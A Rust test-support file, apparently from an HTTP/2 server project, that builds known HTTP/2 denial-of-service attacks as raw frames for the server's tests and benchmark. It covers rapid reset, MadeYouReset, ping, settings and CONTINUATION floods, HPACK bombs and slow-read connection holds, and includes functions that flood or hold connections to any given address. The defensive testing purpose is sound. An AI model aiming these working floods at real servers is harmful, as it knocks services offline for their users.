//! The known attacks on HTTP/2, as bytes: for the engine's tests, for those of the program, and for the benchmark of what they cost.
//!
//! They ask for three resources: `/alive`, [`NEVER`], which is not responded to for a long time, and `/much`, which is large.

use std::io::{Read, Write};
use std::net::{Shutdown, SocketAddr, TcpStream};
use std::time::{Duration, Instant};

/// What a client begins with.
const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

pub(crate) const DATA: u8 = 0;
pub(crate) const HEADERS: u8 = 1;
pub(crate) const PRIORITY: u8 = 2;
pub(crate) const RST_STREAM: u8 = 3;
pub(crate) const SETTINGS: u8 = 4;
pub(crate) const PING: u8 = 6;
pub(crate) const WINDOW_UPDATE: u8 = 8;
pub(crate) const CONTINUATION: u8 = 9;
pub(crate) const PRIORITY_UPDATE: u8 = 16;

pub(crate) const END_STREAM: u8 = 1;
pub(crate) const END_HEADERS: u8 = 4;
pub(crate) const PADDED: u8 = 8;

/// A long poll, which waits for its message.
pub(crate) const NEVER: &str = "/never/a?poll=1";

/// Streams that one connection may have.
const STREAMS: u32 = 100;

/// Bytes that a server lets one connection send of bodies that nobody reads.
const WINDOW_BYTES: u32 = 256 << 10;

/// What is sent again and again, until the server ends the connection.
pub(crate) struct Flood {
    pub(crate) name: &'static str,
    /// The reason that the server gives.
    pub(crate) reason: &'static str,
    /// What is sent the first, second, third time.
    pub(crate) make: fn(u32) -> Vec<u8>,
}

/// What is sent once, on a connection that is held then: nothing is read, and nothing more is sent.
pub(crate) struct Hold {
    pub(crate) name: &'static str,
    pub(crate) make: fn() -> Vec<u8>,
}

pub(crate) const RESETS: &str = "too many streams were reset";
pub(crate) const FRAMES: &str = "too many frames without content";
pub(crate) const BLOCK: &str = "a field block is too long, or in too many frames";
pub(crate) const BOMB: &str = "a field block is too large";

pub(crate) const FLOODS: &[Flood] = &[
    Flood {
        name: "rapid reset (CVE-2023-44487, 2019-9514)",
        reason: RESETS,
        make: |number| [open(number), frame(RST_STREAM, 0, odd(number), &[0, 0, 0, 8])].concat(),
    },
    Flood {
        name: "MadeYouReset by a window (CVE-2025-8671)",
        reason: RESETS,
        make: |number| [open(number), frame(WINDOW_UPDATE, 0, odd(number), &[0; 4])].concat(),
    },
    Flood {
        name: "MadeYouReset by a window that is too large",
        reason: RESETS,
        make: |number| [open(number), frame(WINDOW_UPDATE, 0, odd(number), &[0x7f, 255, 255, 255])].concat(),
    },
    Flood {
        name: "MadeYouReset by a dependency",
        reason: RESETS,
        make: |number| {
            let itself = [&odd(number).to_be_bytes()[..], &[16]].concat();
            [open(number), frame(PRIORITY, 0, odd(number), &itself)].concat()
        },
    },
    Flood {
        name: "MadeYouReset by content behind the end",
        reason: RESETS,
        make: |number| [open(number), frame(DATA, 0, odd(number), b"x")].concat(),
    },
    Flood {
        name: "empty names (CVE-2019-9516)",
        reason: RESETS,
        make: |number| {
            let empty_name = [&get("/alive")[..], &[0, 0, 0]].concat();
            frame(HEADERS, END_STREAM | END_HEADERS, odd(number), &empty_name)
        },
    },
    Flood { name: "more streams than there may be", reason: RESETS, make: open },
    Flood { name: "pings (CVE-2019-9512)", reason: FRAMES, make: |_| frame(PING, 0, 0, &[0; 8]) },
    Flood { name: "settings (CVE-2019-9515)", reason: FRAMES, make: |_| frame(SETTINGS, 0, 0, &[]) },
    Flood {
        name: "priorities (CVE-2019-9513)",
        reason: FRAMES,
        make: |number| frame(PRIORITY, 0, odd(number), &[0, 0, 0, 0, 16]),
    },
    Flood {
        name: "updates of priorities",
        reason: FRAMES,
        make: |_| frame(PRIORITY_UPDATE, 0, 0, b"\0\0\0\x01u=1"),
    },
    Flood { name: "unknown frames", reason: FRAMES, make: |_| frame(0xfa, 0, 0, b"x") },
    Flood {
        name: "empty content (CVE-2019-9518)",
        reason: FRAMES,
        make: |number| [upload(number), frame(DATA, 0, 1, &[])].concat(),
    },
    Flood {
        name: "padding",
        reason: FRAMES,
        make: |number| [upload(number), frame(DATA, PADDED, 1, &[&[200][..], &[0; 200]].concat())].concat(),
    },
    Flood {
        name: "windows for all streams",
        reason: FRAMES,
        make: |number| [upload(number), frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0, (number % 2) as u8])].concat(),
    },
    Flood {
        name: "windows that open by a byte (CVE-2019-9511)",
        reason: FRAMES,
        make: |number| {
            let begun =
                if number == 0 { [first_window(0), request(1, "/much")].concat() } else { Vec::new() };
            [begun, frame(WINDOW_UPDATE, 0, 1, &[0, 0, 0, 1])].concat()
        },
    },
    Flood {
        name: "blocks that go on (CVE-2024-27316)",
        reason: BLOCK,
        make: |number| frame(if number == 0 { HEADERS } else { CONTINUATION }, 0, 1, &[0; 1000]),
    },
    Flood {
        name: "blocks that go on without a byte (CVE-2026-33871)",
        reason: BLOCK,
        make: |number| frame(if number == 0 { HEADERS } else { CONTINUATION }, 0, 1, &[]),
    },
    Flood {
        name: "a block that unpacks to much (CVE-2016-6581, 2022-41723)",
        reason: BOMB,
        make: |number| frame(HEADERS, END_STREAM | END_HEADERS, odd(number), &bomb()),
    },
    Flood {
        name: "crumbs of a cookie (CVE-2026-49975)",
        reason: BOMB,
        make: |number| {
            let crumbs = [&get("/alive")[..], &[0x60, 1, b'c'], &[0xbe; 8000]].concat();
            frame(HEADERS, END_STREAM | END_HEADERS, odd(number), &crumbs)
        },
    },
    Flood {
        name: "many settings (CVE-2020-11080)",
        reason: "too many settings",
        make: |_| frame(SETTINGS, 0, 0, &[0, 9, 0, 0, 0, 0].repeat(33)),
    },
    Flood {
        name: "MAX_FRAME_SIZE 0 (CVE-2026-33814)",
        reason: "MAX_FRAME_SIZE is below 16384, or too large",
        make: |_| frame(SETTINGS, 0, 0, &[0, 5, 0, 0, 0, 0]),
    },
];

pub(crate) const HOLDS: &[Hold] = &[
    Hold {
        name: "a client that reads nothing (CVE-2019-9517, 2016-1546)",
        make: || {
            let wide = [first_window(i32::MAX as u32), frame(WINDOW_UPDATE, 0, 0, &[0x7f, 0, 0, 0])];
            [begin(), wide.concat(), requests("/much")].concat()
        },
    },
    Hold {
        name: "windows that stay shut (CVE-2026-49975, 2026-47774)",
        make: || [begin(), first_window(0), requests("/much")].concat(),
    },
    Hold { name: "half a preface (CVE-2026-56853)", make: || PREFACE[..20].to_vec() },
    Hold { name: "requests that wait", make: || [begin(), requests(NEVER)].concat() },
    Hold {
        name: "bodies that do not end",
        make: || {
            let bodies = (0..STREAMS).flat_map(|number| {
                let content = vec![b'x'; (WINDOW_BYTES / STREAMS) as usize];
                let head = frame(HEADERS, END_HEADERS, odd(number), &fields(0x83, "/alive"));
                [head, frame(DATA, 0, odd(number), &content)].concat()
            });
            [begin(), bodies.collect()].concat()
        },
    },
];

/// How often a flood goes on on one connection that the server does not end.
const FLOOD_MAX: u32 = 20_000;

/// How much of a flood is written at once.
const FLOOD_AT_ONCE: u32 = 100;

/// How long one call may take of somebody whom the server does not serve.
const PATIENCE: Duration = Duration::from_millis(200);

/// Floods a server over one connection after the other, until the time has come. How many there were.
pub(crate) fn flood_until(server: SocketAddr, flood: &Flood, ends: Instant) -> u64 {
    let mut connections = 0;
    while Instant::now() < ends {
        let Some(mut socket) = connect(server) else { continue };
        connections += 1;
        let mut bytes = begin();
        for number in 0..FLOOD_MAX {
            bytes.extend((flood.make)(number));
            if number % FLOOD_AT_ONCE != FLOOD_AT_ONCE - 1 {
                continue;
            }
            if socket.write_all(&bytes).is_err() || Instant::now() > ends {
                break;
            }
            bytes.clear();
        }
        let _ = socket.shutdown(Shutdown::Write);
        let _ = socket.read_to_end(&mut Vec::new());
    }
    connections
}

/// Holds so many connections until the time has come.
pub(crate) fn hold_until(server: SocketAddr, hold: &Hold, connections: usize, ends: Instant) {
    let bytes = (hold.make)();
    let mut held = Vec::new();
    for _ in 0..connections {
        if let Some(mut socket) = connect(server) {
            // One that is not read any more has been sent enough.
            let _ = socket.write_all(&bytes);
            held.push(socket);
        }
    }
    std::thread::sleep(ends.saturating_duration_since(Instant::now()));
}

fn connect(server: SocketAddr) -> Option<TcpStream> {
    let socket = TcpStream::connect(server).ok()?;
    socket.set_read_timeout(Some(PATIENCE)).ok()?;
    socket.set_write_timeout(Some(PATIENCE)).ok()?;
    Some(socket)
}

/// What a flood follows: preface and settings.
pub(crate) fn begin() -> Vec<u8> {
    [PREFACE, &frame(SETTINGS, 0, 0, &[])].concat()
}

pub(crate) fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let [_, a, b, c] = (payload.len() as u32).to_be_bytes();
    [&[a, b, c, kind, flags], &stream.to_be_bytes()[..], payload].concat()
}

/// The fields of a request: `method` is an index of the fixed table.
pub(crate) fn fields(method: u8, path: &str) -> Vec<u8> {
    [&[method, 0x86, 0x41, 1, b't', 4, path.len() as u8], path.as_bytes()].concat()
}

pub(crate) fn get(path: &str) -> Vec<u8> {
    fields(0x82, path)
}

/// An entry that fills the table, and then names of it.
pub(crate) fn bomb() -> Vec<u8> {
    [&get("/alive")[..], &[0x40, 1, b'x', 127, 0xa0, 30], &[b'v'; 3999], &[0xbe; 4000]].concat()
}

fn odd(number: u32) -> u32 {
    number * 2 + 1
}

fn request(stream: u32, path: &str) -> Vec<u8> {
    frame(HEADERS, END_STREAM | END_HEADERS, stream, &get(path))
}

fn requests(path: &str) -> Vec<u8> {
    (0..STREAMS).flat_map(|number| request(odd(number), path)).collect()
}

/// A request that is not responded to for a long time.
fn open(number: u32) -> Vec<u8> {
    request(odd(number), NEVER)
}

/// The first time, a request whose body goes on.
fn upload(number: u32) -> Vec<u8> {
    if number == 0 { frame(HEADERS, END_HEADERS, 1, &fields(0x83, "/alive")) } else { Vec::new() }
}

/// The first window of each stream.
fn first_window(bytes: u32) -> Vec<u8> {
    frame(SETTINGS, 0, 0, &[&[0, 4][..], &bytes.to_be_bytes()].concat())
}
